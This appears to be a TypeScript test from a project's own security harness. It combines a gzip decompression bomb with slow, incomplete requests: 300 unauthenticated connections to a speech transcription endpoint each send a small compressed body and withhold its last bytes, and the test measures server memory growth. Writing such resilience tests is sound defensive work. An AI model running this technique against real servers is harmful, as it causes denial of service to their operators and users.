/** A caller without an account sends small bodies that inflate to large ones, and withholds their last bytes. */
import { PCM_MEDIA_TYPE } from '@parley/contract';
import { randomBytes, randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { type Attack, describeFigures, meetsMemoryTarget, MEMORY_TARGET } from '../attack.ts';
import { measureAttack } from '../measure-attack.ts';
import { holdConnections, encodeRequest } from '../stalled-connections.ts';
import { SERVER_KINDS } from '../target.ts';

const SOCKETS = 300;
const INFLATED_BYTES = 5_800_000;
const WITHHELD_BYTES = 12;

export const unauthenticatedBodies: Attack = {
  name: `A caller without an account exhausts memory with ${SOCKETS} compressed bodies of 5.8 MB whose end is withheld`,
  before: '0.3 to 2.0 GiB more',
  target: MEMORY_TARGET,
  on: SERVER_KINDS,
  run: async (target) => {
    const compressed = gzipSync(Buffer.alloc(INFLATED_BYTES));
    const request = encodeRequest({
      path: `/v1/speech/transcribe?sessionId=${randomUUID()}`,
      headers: {
        'content-type': PCM_MEDIA_TYPE,
        'content-encoding': 'gzip',
        authorization: `Bearer ${randomUUID()}.${randomBytes(32).toString('base64url')}`,
      },
      body: compressed,
    });
    const bytes = request.subarray(0, request.byteLength - WITHHELD_BYTES);
    const figures = await measureAttack(target, () => holdConnections(target, { count: SOCKETS, bytes, reads: true }));
    return { after: describeFigures(figures), holds: meetsMemoryTarget(figures) };
  },
};
